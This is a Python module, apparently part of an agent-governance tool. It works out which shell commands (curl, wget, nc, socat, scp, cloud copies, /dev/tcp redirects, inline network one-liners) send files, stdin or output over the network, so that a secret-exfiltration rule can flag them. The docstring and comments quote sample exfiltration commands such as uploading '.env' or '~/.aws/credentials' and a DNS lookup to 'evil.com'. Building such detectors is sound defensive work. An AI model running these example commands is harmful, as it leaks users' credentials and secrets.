"""Which commands send data over the network, and which of their inputs they send.

``curl -F f=@.env`` sends a file operand, ``nc host 80`` sends its stdin, ``scp key host:``
copies local operands to a remote, ``dig $(...).evil.com`` sends whatever its words hold.
``Sending`` records, per command, the channels a secret could leave by, so the
exfiltration rule only has to ask whether a secret reaches one of them.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import cached_property
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from agentgov.evaluators.rules.cli_options import OptionSpec, parse_options
from agentgov.evaluators.rules.secrets.secret_sources import inline_code
from agentgov.evaluators.shell.model import Word

if TYPE_CHECKING:
    from agentgov.evaluators.shell.model import SimpleCommand


@dataclass(frozen=True)
class Sending:
    """What a network sender sends.

    - ``files``: local files whose content leaves (upload operands, ``@file`` data).
    - ``recursive``: directories among ``files`` are sent whole (``scp -r``, ``rsync -a``).
    - ``stdin``: the command sends what it reads on stdin.
    - ``output``: the command's own output goes to the network (``> /dev/tcp/h/p``).
    - ``destinations``: the URLs it sends to, for the senders that name them.
    - ``hosts``: destination host names when every destination is static, else None
      (read from ``destinations`` only when asked: few commands carry a token to check).
    """

    files: tuple[Word, ...] = ()
    recursive: bool = False
    stdin: bool = False
    output: bool = False
    destinations: tuple[Word, ...] | None = None

    @cached_property
    def hosts(self) -> tuple[str, ...] | None:
        return None if self.destinations is None else _hosts(self.destinations)


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


_NET_DEVICES = ("/dev/tcp/", "/dev/udp/")
_STDIN_FILES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})

_CURL = OptionSpec(
    short_value="AbcCdDeEFHKmoPQrtTuUwxXyYz",
    long_value=_names(
        """data data-raw data-binary data-ascii data-urlencode json form form-string
        upload-file header output user request user-agent referer cookie cookie-jar config
        cert proxy range max-time write-out continue-at speed-time speed-limit time-cond
        proxy-user quote url connect-timeout retry retry-delay retry-max-time cacert capath
        key key-type pass resolve connect-to interface limit-rate max-filesize netrc-file
        output-dir proxy-header variable aws-sigv4 oauth2-bearer unix-socket dns-servers
        local-port expand-data expand-url expand-header hostpubmd5 trace trace-ascii
        stderr ciphers"""
    ),
)
# curl options whose value names a file to send with a leading @ (or <, for -F).
_CURL_AT_DATA = frozenset(
    {
        "-d",
        "--data",
        "--data-binary",
        "--data-ascii",
        "--data-urlencode",
        "--json",
        "-H",
        "--header",
        "--variable",
        "--expand-data",
    }
)
_CURL_FORM = frozenset({"-F", "--form"})
_CURL_UPLOAD = frozenset({"-T", "--upload-file"})
_FORM_FILE = re.compile(r"^[^=]*=[@<]([^;]*)")
_AT_FILE = re.compile(r"^(?:[^@=]*=)?@(.+)$")


def _word(text: str, like: Word) -> Word:
    """The path part of an option value (``@~/.aws/credentials`` -> ``~/.aws/credentials``);
    a leading ``~`` counts as home, as the sender's author meant it."""
    return Word(text, text if text.startswith("~") else like.raw, like.static, like.glob)


def _url_host(text: str) -> str | None:
    candidate = text if "://" in text else "http://" + text
    try:
        return urlsplit(candidate).hostname
    except ValueError:
        return None


def _hosts(urls: tuple[Word, ...]) -> tuple[str, ...] | None:
    hosts: list[str] = []
    for word in urls:
        host = _url_host(word.value) if word.static else None
        if host is None:
            return None
        hosts.append(host)
    return tuple(hosts)


def _curl_file(name: str, value: str) -> str | None:
    """The file an option's value makes curl send, or None."""
    if name in _CURL_UPLOAD or name in ("-K", "--config"):
        return value
    pattern = _AT_FILE if name in _CURL_AT_DATA else _FORM_FILE if name in _CURL_FORM else None
    match = pattern.match(value) if pattern is not None else None
    return match.group(1) if match else None


def _curl(command: SimpleCommand) -> Sending:
    parsed = parse_options(command.args, _CURL)
    files: list[Word] = []
    urls = list(parsed.operands)
    for option in parsed.options:
        if option.value is None:
            continue
        if option.name == "--url":
            urls.append(_word(option.value, option.word))
        elif (path := _curl_file(option.name, option.value)) is not None:
            files.append(_word(path, option.word))
    stdin = any(word.value in _STDIN_FILES or word.value == "." for word in files)
    return Sending(files=tuple(files), stdin=stdin, destinations=tuple(urls))


_WGET = OptionSpec(
    short_value="OoaideEPtTUYwQBlAR",
    long_value=_names(
        """output-document output-file append-output post-file post-data body-file
        body-data header method input-file user password user-agent directory-prefix tries
        timeout wait referer"""
    ),
)


def _wget(command: SimpleCommand) -> Sending:
    parsed = parse_options(command.args, _WGET)
    files = [
        _word(option.value, option.word)
        for option in parsed.options
        if option.name in ("--post-file", "--body-file") and option.value is not None
    ]
    stdin = any(word.value in _STDIN_FILES for word in files) or any(
        option.name in ("-i", "--input-file") and option.value in _STDIN_FILES
        for option in parsed.options
    )
    return Sending(files=tuple(files), stdin=stdin, destinations=parsed.operands)


_HTTPIE_METHODS = re.compile(r"[A-Z]+")
_HTTPIE_FILE = re.compile(r"^(?:[^=:@]*(?:=|:=|:)?)?@(.+)$")


def _httpie(command: SimpleCommand) -> Sending:
    parsed = parse_options(
        command.args,
        OptionSpec(
            short_value="aAfo",
            long_value=_names("auth auth-type output session session-read-only verify cert"),
        ),
    )
    operands = list(parsed.operands)
    if operands and _HTTPIE_METHODS.fullmatch(operands[0].value):
        operands = operands[1:]
    urls = operands[:1]
    files = [
        _word(match.group(1), word)
        for word in operands[1:]
        if "://" not in word.value and (match := _HTTPIE_FILE.match(word.value))
    ]
    stdin = not parsed.has("--ignore-stdin", "-I")
    return Sending(files=tuple(files), stdin=stdin, destinations=tuple(urls))


_REMOTE = re.compile(r"^(?:[a-z][a-z0-9+.-]*://|[^/:]+::?)", re.IGNORECASE)


def _is_remote(text: str) -> bool:
    return bool(_REMOTE.match(text)) and not text.startswith(("./", "/", "~"))


def _copy(command: SimpleCommand, spec: OptionSpec, recursive_flags: tuple[str, ...]) -> Sending:
    """scp and rsync: local operands are sent when the destination is remote."""
    parsed = parse_options(command.args, spec)
    operands = parsed.operands
    if len(operands) < 2 or not _is_remote(operands[-1].value):
        return Sending()
    sources = tuple(word for word in operands[:-1] if not _is_remote(word.value))
    return Sending(files=sources, recursive=parsed.has(*recursive_flags))


_SCP = OptionSpec(short_value="cFiJloPSDX")
_RSYNC = OptionSpec(
    short_value="efBTM",
    long_value=_names(
        """rsh exclude include filter files-from rsync-path port password-file temp-dir
        partial-dir backup-dir suffix chmod log-file max-size min-size bwlimit timeout
        contimeout compare-dest copy-dest link-dest exclude-from include-from out-format
        info debug block-size iconv chown usermap groupmap remote-option"""
    ),
)


def _cloud_copy(command: SimpleCommand, operands: tuple[Word, ...], scheme: str) -> Sending:
    """``aws s3 cp``, ``gsutil cp``, ``rclone copy``: local sources to a bucket."""
    if len(operands) < 2 or not operands[-1].value.startswith(scheme):
        return Sending()
    sources = tuple(word for word in operands[:-1] if not word.value.startswith(scheme))
    return Sending(
        files=sources,
        recursive=True,
        stdin=any(word.value in _STDIN_FILES for word in sources),
    )


def _operands(words: tuple[Word, ...]) -> tuple[Word, ...]:
    return tuple(word for word in words if not word.value.startswith("-"))


_SOCAT_NETWORK = re.compile(r"(?i)^(?:tcp|udp|ssl|openssl|sctp|socks|proxy|dccp|vsock)")
_SOCAT_FILE = re.compile(r"(?i)^(?:file|open|gopen|readline|exec|system):(.+)$")
_STDIN_SENDERS = frozenset(
    {
        "nc",
        "ncat",
        "netcat",
        "nc.openbsd",
        "nc.traditional",
        "telnet",
        "mail",
        "mailx",
        "sendmail",
        "mutt",
    }
)
# Commands that send only what their words hold (DNS names, ping padding...).
_WORD_SENDERS = frozenset(
    {"dig", "nslookup", "host", "ping", "ping6", "traceroute", "whois", "drill", "kdig"}
)


_INLINE_NETWORK = re.compile(
    r"requests\.|urllib|urlopen|http\.client|httpx|aiohttp|socket\.|\bfetch\(|axios|"
    r"https?\.request|net\.connect|Net::HTTP|LWP::|IO::Socket|open-uri|curl_exec|"
    r"fsockopen|file_get_contents\(\s*['\"]https?:|smtplib|ftplib|paramiko"
)


def _inline_sender(command: SimpleCommand) -> Sending | None:
    """A one-liner (``python -c``, ``node -e``...) whose code talks to the network sends
    whatever it touches: its own output and what it reads on stdin."""
    code = inline_code(command)
    if code is None or not _INLINE_NETWORK.search(code):
        return None
    return Sending(stdin="stdin" in code.lower() or "readFileSync(0" in code, output=True)


# Every program ``sending`` reads by name; any other sends only through a ``/dev/tcp``
# redirect or as an interpreter one-liner.
_SENDERS = frozenset(
    {
        *("tee", "curl", "wget", "http", "https", "xh", "xhs", "socat", "openssl", "ssh"),
        *("scp", "rsync", "aws", "gsutil", "rclone", "gh"),
    }
)


def may_send(command: SimpleCommand) -> bool:
    """A cheap test before ``sending``: False when ``sending(command)`` is None for sure."""
    name = command.name
    if name in _SENDERS or name in _STDIN_SENDERS or name in _WORD_SENDERS:
        return True
    for redirect in command.redirects:
        if redirect.target is not None and redirect.target.value.startswith(_NET_DEVICES):
            return True
    return inline_code(command) is not None


def sending(command: SimpleCommand) -> Sending | None:
    """How ``command`` sends data over the network, or None when it does not."""
    name = command.name
    tcp_out = any(
        redirect.op in (">", ">>", "&>", ">|")
        and redirect.target is not None
        and redirect.target.value.startswith(_NET_DEVICES)
        for redirect in command.redirects
    )
    if tcp_out:
        return Sending(output=True)
    if name not in _SENDERS and name not in _STDIN_SENDERS:
        return Sending() if name in _WORD_SENDERS else _inline_sender(command)
    values = command.values()
    if name == "tee" and any(text.startswith(_NET_DEVICES) for text in values):
        return Sending(stdin=True)
    if name == "curl":
        return _curl(command)
    if name == "wget":
        return _wget(command)
    if name in ("http", "https", "xh", "xhs"):
        return _httpie(command)
    if name in _STDIN_SENDERS:
        attachments = tuple(
            command.args[i + 1]
            for i, text in enumerate(values[:-1])
            if text in ("-a", "-A", "--attach")
        )
        return Sending(files=attachments, stdin=not ({"-z", "-d"} & set(values)))
    if name == "socat":
        if not any(_SOCAT_NETWORK.match(text) for text in values):
            return None
        files = tuple(
            _word(match.group(1), word)
            for word in command.args
            if (match := _SOCAT_FILE.match(word.value))
        )
        stdin = any(text in ("-", "STDIN", "STDIO", "stdin", "stdio") for text in values)
        return Sending(files=files, stdin=stdin)
    if name == "openssl" and values[:1] == ("s_client",):
        return Sending(stdin=True)
    if name == "ssh":
        return Sending(stdin=not ({"-n", "-N", "-f"} & set(values)))
    if name == "scp":
        return _copy(command, _SCP, ("-r",))
    if name == "rsync":
        return _copy(command, _RSYNC, ("-r", "-a", "--recursive", "--archive"))
    if name == "aws" and values[:1] == ("s3",) and values[1:2] in (("cp",), ("mv",), ("sync",)):
        return _cloud_copy(command, _operands(command.args[2:]), "s3://")
    if name == "gsutil" and values[:1] in (("cp",), ("mv",), ("rsync",)):
        return _cloud_copy(command, _operands(command.args[1:]), "gs://")
    if name == "rclone" and values[:1] in (("copy",), ("copyto",), ("sync",), ("move",)):
        operands = _operands(command.args[1:])
        if len(operands) >= 2 and _is_remote(operands[-1].value):
            return Sending(files=operands[:-1], recursive=True)
        return None
    if name == "rclone" and values[:1] == ("rcat",):
        return Sending(stdin=True)
    if name == "gh" and values[:2] in (("gist", "create"), ("release", "upload")):
        files = _operands(command.args[2:])
        if values[1] == "upload":
            files = files[1:]
        return Sending(files=files, stdin=any(word.value == "-" for word in files) or not files)
    if name in _WORD_SENDERS:
        return Sending()
    return _inline_sender(command)
